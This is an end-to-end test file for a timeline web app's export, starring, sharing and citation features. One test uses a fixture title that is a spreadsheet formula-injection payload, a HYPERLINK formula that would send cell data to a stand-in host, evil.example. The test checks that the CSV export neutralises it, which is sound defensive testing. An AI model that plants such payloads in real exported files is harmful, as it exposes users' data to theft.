// Taking events away, on the real corpus: the view exported as CSV, JSON and ICS (counts
// equal the CLI's for the same filter, contents equal each other, formulas neutralised),
// stars that survive a reload and going offline, /starred as a brief that prints, a shared
// collection that its receiver sees read-only and saves, and an event's citations.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, mkdtempSync, cpSync, writeFileSync, rmSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { copySite, openPage, cli, CLI, CORPUS, expectCount, waitForApp, parseCsv, servedSite } from './support/lib.mjs';

let browser, url;
servedSite((s) => ({ browser, url } = s));

/** Chooses `format` in the view's Export menu and returns the file's name and text. */
async function exportAs(page, format) {
  await page.locator('.export-menu > summary').click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator(`.export-options [data-format="${format}"]`).click(),
  ]);
  const data = readFileSync(await download.path());
  return { name: download.suggestedFilename(), data, text: data.toString('utf8') };
}

const today = () => {
  const d = new Date();
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
};

/** An ICS file's VEVENTs as objects of their (unfolded) properties. */
function vevents(text) {
  const lines = text.split('\r\n').reduce((out, line) => {
    if (line.startsWith(' ')) out[out.length - 1] += line.slice(1);
    else out.push(line);
    return out;
  }, []);
  const events = [];
  let current = null;
  for (const line of lines) {
    if (line === 'BEGIN:VEVENT') current = {};
    else if (line === 'END:VEVENT') { events.push(current); current = null; }
    else if (current) {
      const at = line.indexOf(':');
      current[line.slice(0, at).split(';')[0]] = line.slice(at + 1);
    }
  }
  return { lines, events };
}

test('the filtered view exports as CSV, JSON and ICS: the view count, its order, one event each', async () => {
  const stats = cli('stats', CORPUS, '--format', 'json', '--top', '5');
  const tag = stats.top_tags[1];
  const filter = `tag=${tag.key}&from=2018`;
  const expected = cli('stats', CORPUS, '--format', 'json', '--filter', filter).events;
  assert.ok(expected > 20, 'a filter with enough events to span several chunks');
  const page = await openPage(browser, { acceptDownloads: true });
  await page.goto(`${url}/?${filter}`);
  await waitForApp(page);
  await expectCount(page, expected);
  const firstRows = await page.locator('.event-row').evaluateAll((rows) => rows.slice(0, 3).map((r) => decodeURIComponent(r.getAttribute('href').split('/event/')[1])));
  // Each export is written by a worker of its own, which ends with it (its memory freed).
  const workers = [];
  page.on('worker', (w) => {
    const seen = { url: w.url(), closed: false };
    workers.push(seen);
    w.on('close', () => { seen.closed = true; });
  });

  const json = await exportAs(page, 'json');
  assert.equal(json.name, `timeline-${today()}.json`);
  const events = JSON.parse(json.text);
  assert.equal(events.length, expected, 'JSON: one object per event of the view');
  assert.deepEqual(events.slice(0, 3).map((e) => e.id), firstRows, 'in the view\'s order (newest first)');
  for (const e of events) {
    assert.ok(e.tags.some((t) => t.toLowerCase().includes(tag.label.toLowerCase()) || t === tag.label), `${e.id} carries the tag`);
    assert.ok(e.date >= '2018', `${e.id} is from 2018 on`);
    assert.match(e.permalink, new RegExp(`^${url}/event/`));
  }
  const dates = events.map((e) => e.date);
  assert.deepEqual(dates, [...dates].sort().reverse(), 'dates newest first');
  assert.ok(events.some((e) => e.sources.length > 0 && e.sources[0].url), 'sources with their fields');
  assert.ok(events.some((e) => e.body_html), 'the body');

  const csv = await exportAs(page, 'csv');
  assert.equal(csv.name, `timeline-${today()}.csv`);
  const rows = parseCsv(csv.data);
  assert.deepEqual(rows[0], ['id', 'date', 'title', 'summary', 'importance', 'status', 'tags', 'actors', 'lanes', 'location', 'sources', 'permalink']);
  assert.equal(rows.length - 1, expected, 'CSV: one row per event');
  assert.deepEqual(rows.slice(1).map((r) => r[0]), events.map((e) => e.id), 'the same events in the same order as the JSON');
  for (const [i, r] of rows.slice(1).entries()) {
    assert.equal(r.length, 12, `row ${i + 1} has every column`);
    assert.equal(r[11], events[i].permalink);
  }

  const ics = await exportAs(page, 'ics');
  assert.equal(ics.name, `timeline-${today()}.ics`);
  const cal = vevents(ics.text);
  assert.equal(cal.lines[0], 'BEGIN:VCALENDAR');
  assert.ok(cal.lines.includes('VERSION:2.0'));
  assert.equal(cal.events.length, expected, 'ICS: one VEVENT per event');
  for (const [i, v] of cal.events.entries()) {
    assert.match(v.DTSTART, /^\d{8}$/, 'all-day');
    assert.ok(v.DTEND > v.DTSTART, 'DTEND after DTSTART');
    assert.match(v.DTSTAMP, /^\d{8}T\d{6}Z$/);
    assert.ok(v.UID.startsWith(events[i].id), 'UID from the id');
    assert.equal(v.URL, events[i].permalink);
  }
  for (const line of ics.text.split('\r\n')) assert.ok(Buffer.byteLength(line) <= 75, `folded: ${line.slice(0, 40)}`);
  assert.match(await page.locator('.export-status').textContent(), new RegExp(`Exported ${expected.toLocaleString('en-US')} events`));
  const exporters = workers.filter((w) => w.url === `${url}/export-worker_loader.js`);
  assert.equal(exporters.length, 3, `one export worker an export: ${workers.map((w) => w.url)}`);
  for (let tries = 0; tries < 50 && !exporters.every((w) => w.closed); tries++) await page.waitForTimeout(100);
  assert.ok(exporters.every((w) => w.closed), 'each ended once its file was made');
  page.noProblems();
});

test('the browser\'s CSV export is the build\'s dataset, formulas neutralised, and calendar dates span', async () => {
  const site = await copySite('formula', 'tests/e2e/support/fixtures/formula');
  try {
    const page = await openPage(browser, { acceptDownloads: true });
    await page.goto(site.url + '/');
    await waitForApp(page);
    await expectCount(page, 3);
    const csv = await exportAs(page, 'csv');
    assert.equal(csv.name, `formula-fixture-${today()}.csv`, 'named after the site');
    const exported = parseCsv(csv.data);
    const built = parseCsv(new Uint8Array(await (await fetch(`${site.url}/data/events.csv`)).arrayBuffer()));
    // The same writer: the same cells, but for the order (the view's, newest first) and the
    // permalink (absolute in the browser, the site's own path in the build).
    const withoutLink = (rows) => rows.map((r) => r.slice(0, 11).join('\u0000')).sort();
    assert.deepEqual(withoutLink(exported), withoutLink(built));
    assert.deepEqual(exported.slice(1).map((r) => r[0]), ['2021-06-01--formula-cells', '2021-06-02--an-ordinary-event', '2020--a-whole-year']);
    const hostile = exported[1];
    assert.equal(hostile[2], '\'=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")');
    assert.equal(hostile[11], `${site.url}/event/2021-06-01--formula-cells`);
    for (const r of exported) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
    const cal = vevents((await exportAs(page, 'ics')).text);
    const span = Object.fromEntries(cal.events.map((v) => [v.UID.split('@')[0], [v.DTSTART, v.DTEND]]));
    assert.deepEqual(span['2021-06-02--an-ordinary-event'], ['20210601', '20210701'], 'a month spans its month');
    assert.deepEqual(span['2020--a-whole-year'], ['20200101', '20210101'], 'a year spans its year');
    assert.deepEqual(span['2021-06-01--formula-cells'], ['20210601', '20210602'], 'a day is one day');
    assert.match(cal.events.find((v) => v.UID.startsWith('2021-06-01')).SUMMARY, /^=HYPERLINK/, 'a calendar keeps the title as written (it runs no formulas)');
    page.noProblems();
  } finally {
    site.close();
  }
});

test('stars survive a reload, going offline and a new deploy; /starred is a brief that prints, with the same export', async () => {
  const site = await copySite('stars');
  try {
    const page = await openPage(browser, { acceptDownloads: true });
    await page.goto(site.url + '/');
    await waitForApp(page);
    await page.waitForFunction(async () => (await navigator.serviceWorker.ready).active && navigator.serviceWorker.controller, null, { timeout: 30000 });
    const first = page.locator('.slot').filter({ has: page.locator('.event-row') }).first();
    const title = (await first.locator('.row-title').textContent()).trim();
    const star = first.locator('.row-star');
    assert.equal(await star.getAttribute('aria-pressed'), 'false');
    assert.match(await star.getAttribute('aria-label'), /^Star: /);
    await star.click();
    assert.equal(await star.getAttribute('aria-pressed'), 'true');

    // A second star, from an event's page.
    await page.locator('.event-row').nth(3).click();
    await waitForApp(page);
    const second = (await page.locator('.event-page h1').textContent()).trim();
    const pageStar = page.locator('.event-page .star');
    assert.equal(await pageStar.getAttribute('aria-pressed'), 'false');
    await pageStar.click();
    assert.equal(await pageStar.getAttribute('aria-pressed'), 'true');
    assert.equal(await pageStar.textContent(), 'Starred');

    await page.reload();
    await waitForApp(page);
    assert.equal(await page.locator('.event-page .star').getAttribute('aria-pressed'), 'true', 'kept across a reload');

    await page.context().setOffline(true);
    await page.goto(site.url + '/starred');
    await waitForApp(page);
    await page.waitForFunction(() => document.querySelectorAll('.brief-item').length === 2 && !document.querySelector('.brief-loading'));
    const titles = await page.locator('.brief-item h2').allTextContents();
    assert.deepEqual(new Set(titles.map((t) => t.trim())), new Set([title, second]), 'both starred events, offline');
    assert.match(await page.locator('.starred-page .lede').textContent(), /^2 events/);
    assert.ok(await page.locator('.brief-sources .url').count() > 0, 'the sources with their addresses');
    const json = JSON.parse((await exportAs(page, 'json')).text);
    assert.equal(json.length, 2, 'the starred view exports its events');
    await page.context().setOffline(false);

    // On paper: the brief alone, no header, toolbar or buttons.
    await page.emulateMedia({ media: 'print' });
    const shown = await page.evaluate(() => Object.fromEntries(['.site-header', '.starred-toolbar', '.brief .star', '.site-footer', '.brief-sources .url']
      .map((s) => [s, getComputedStyle(document.querySelector(s)).display !== 'none'])));
    assert.deepEqual(shown, { '.site-header': false, '.starred-toolbar': false, '.brief .star': false, '.site-footer': false, '.brief-sources .url': true });
    await page.emulateMedia({ media: 'screen' });

    // Unstarring from the brief.
    await page.locator('.brief-item .star').first().click();
    await page.waitForFunction(() => document.querySelectorAll('.brief-item').length === 1);
    const kept = (await page.locator('.brief-item h2').textContent()).trim();

    // A new deploy (the corpus with one more event: a new bundle, new parts, new event
    // numbers) keeps the stars: they are ids, under the site's own key.
    const corpus = mkdtempSync(join(tmpdir(), 'timeline-stars-corpus-'));
    try {
      cpSync(CORPUS, corpus, { recursive: true });
      writeFileSync(join(corpus, '1999-01-01--a-new-event.md'), '---\nid: 1999-01-01--a-new-event\ndate: 1999-01-01\ntitle: A new event\n---\nNew.\n');
      execFileSync(CLI, ['build', corpus, '-o', site.dir], { stdio: 'ignore' });
    } finally {
      rmSync(corpus, { recursive: true, force: true });
    }
    await page.reload();
    await waitForApp(page);
    await page.waitForSelector('.update-banner', { timeout: 30000 });
    await page.locator('.update-banner .button').click();
    await page.waitForFunction(() => /1,748 events/.test(document.querySelector('.site-footer')?.textContent ?? ''), null, { timeout: 30000 });
    await page.waitForFunction(() => document.querySelectorAll('.brief-item').length === 1 && !document.querySelector('.brief-loading'));
    assert.equal((await page.locator('.brief-item h2').textContent()).trim(), kept, 'the star kept across the deploy');
    page.noProblems();
  } finally {
    site.close();
  }
});

test('a shared collection is read-only for its receiver, who can save it as their own', async () => {
  const ids = cli('stats', CORPUS, '--format', 'json').events;
  assert.ok(ids > 100);
  const sender = await openPage(browser);
  await sender.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: url });
  await sender.goto(url + '/');
  await waitForApp(sender);
  const stars = sender.locator('.row-star');
  await stars.nth(0).click();
  await stars.nth(1).click();
  await sender.goto(url + '/starred');
  await waitForApp(sender);
  await sender.waitForSelector('.brief-item');
  const titles = (await sender.locator('.brief-item h2').allTextContents()).map((t) => t.trim());
  await sender.locator('[data-share]').click();
  const link = await sender.evaluate(() => navigator.clipboard.readText());
  assert.match(link, new RegExp(`^${url}/starred\\?ids=[^&]+,[^&]+$`), 'a link naming both ids');

  const receiver = await openPage(browser);
  await receiver.goto(link);
  await waitForApp(receiver);
  await receiver.waitForFunction(() => document.querySelectorAll('.brief-item').length === 2);
  assert.equal(await receiver.locator('.starred-page h1').textContent(), 'A shared collection');
  assert.deepEqual((await receiver.locator('.brief-item h2').allTextContents()).map((t) => t.trim()), titles);
  assert.equal(await receiver.locator('.brief-item .star').count(), 0, 'read-only: no star buttons');
  assert.equal(await receiver.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('timeline-stars')).length), 0, 'nothing saved by looking');
  await receiver.locator('[data-save]').click();
  assert.match(await receiver.locator('.saved').textContent(), /Saved/);
  await receiver.goto(url + '/starred');
  await waitForApp(receiver);
  await receiver.waitForFunction(() => document.querySelectorAll('.brief-item .star').length === 2);
  assert.equal(await receiver.locator('.starred-page h1').textContent(), 'Starred events');
  // A link naming an id the corpus does not have says so, and an odd parameter breaks nothing.
  await receiver.goto(`${url}/starred?ids=${encodeURIComponent('no-such-event')},%E0%A4%A,,`);
  await waitForApp(receiver);
  assert.match(await receiver.locator('.starred-page .lede').textContent(), /no longer in this timeline/);
  sender.noProblems();
  receiver.noProblems();
});

test('an event cites itself as plain text, BibTeX, RIS and CSL-JSON, each copied with its own button', async () => {
  const page = await openPage(browser);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: url });
  const seed = '2017-05-10--trump-reveals-israeli-classified-intelligence-to-lavrov-kislyak-oval-office-day-after-comey-firing';
  await page.goto(`${url}/event/${seed}`);
  await waitForApp(page);
  const title = (await page.locator('.event-page h1').textContent()).trim();
  await page.locator('.cite-link').click();
  assert.equal(await page.locator('details.cite').getAttribute('open'), '');
  const text = async (key) => page.locator(`.cite pre[data-format="${key}"]`).textContent();
  const permalink = `${url}/event/${seed}`;
  assert.equal(await text('plain'), `“${title.replace(/\.$/, '')}.” Timeline, 10 May 2017. ${permalink}`);
  const bib = await text('bibtex');
  assert.match(bib, /^@misc\{2017-05-10--trump-reveals/);
  assert.match(bib, /year = \{2017\},\n {2}month = may,/);
  assert.ok(bib.includes(`url = {${permalink}}`));
  const ris = (await text('ris')).split(/\r?\n/);
  assert.deepEqual([ris[0], ris.find((l) => l.startsWith('DA')), ris.find((l) => l.startsWith('UR'))], ['TY  - WEB', 'DA  - 2017/05/10/', `UR  - ${permalink}`]);
  const csl = JSON.parse(await text('csl'));
  assert.equal(csl[0].title, title);
  assert.deepEqual(csl[0].issued['date-parts'], [[2017, 5, 10]]);
  assert.equal(csl[0].URL, permalink);
  for (const [key, name] of [['bibtex', 'BibTeX'], ['ris', 'RIS']]) {
    await page.locator(`.cite [data-copy="${key}"]`).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), (await text(key)));
    assert.equal(await page.locator('.cite-status').textContent(), `Copied: ${name}`);
  }
  // Reference managers read the head: it names the event shown, also after moving to
  // another one within the app.
  const meta = () => page.evaluate(() => [...document.querySelectorAll('meta[name="citation_title"], meta[name="DC.identifier"]')].map((m) => m.content));
  assert.deepEqual(await meta(), [title, permalink]);
  await page.locator('.prev-next .next').click();
  await page.waitForFunction((t) => document.querySelector('.event-page h1')?.textContent.trim() !== t, title);
  await waitForApp(page);
  const next = (await page.locator('.event-page h1').textContent()).trim();
  const [nextTitle, nextLink] = await meta();
  assert.equal(nextTitle, next);
  assert.equal(nextLink, page.url());
  page.noProblems();
});

test('Share… offers the system share sheet where the browser has one, and only there', async () => {
  const seed = '2017-05-10--trump-reveals-israeli-classified-intelligence-to-lavrov-kislyak-oval-office-day-after-comey-firing';
  // Without the Web Share API (this desktop Chromium): no Share button, Copy link instead.
  const desktop = await openPage(browser);
  await desktop.goto(`${url}/event/${seed}`);
  await waitForApp(desktop);
  assert.equal(await desktop.locator('.event-page .share').isVisible(), false);
  assert.equal(await desktop.locator('.event-page .copy-link').isVisible(), true);
  desktop.noProblems();
  // A phone's browser has it (given here to the page before it loads, as a phone would).
  const phone = await openPage(browser, { viewport: { width: 390, height: 844 } });
  await phone.addInitScript(() => {
    navigator.share = async (data) => { window.__shared = data; };
  });
  await phone.goto(`${url}/event/${seed}`);
  await waitForApp(phone);
  const share = phone.locator('.event-page .share');
  assert.equal(await share.isVisible(), true);
  await share.click();
  const shared = await phone.waitForFunction(() => window.__shared).then((h) => h.jsonValue());
  assert.deepEqual(shared, { title: (await phone.locator('.event-page h1').textContent()).trim(), url: `${url}/event/${seed}` });
  phone.noProblems();
});
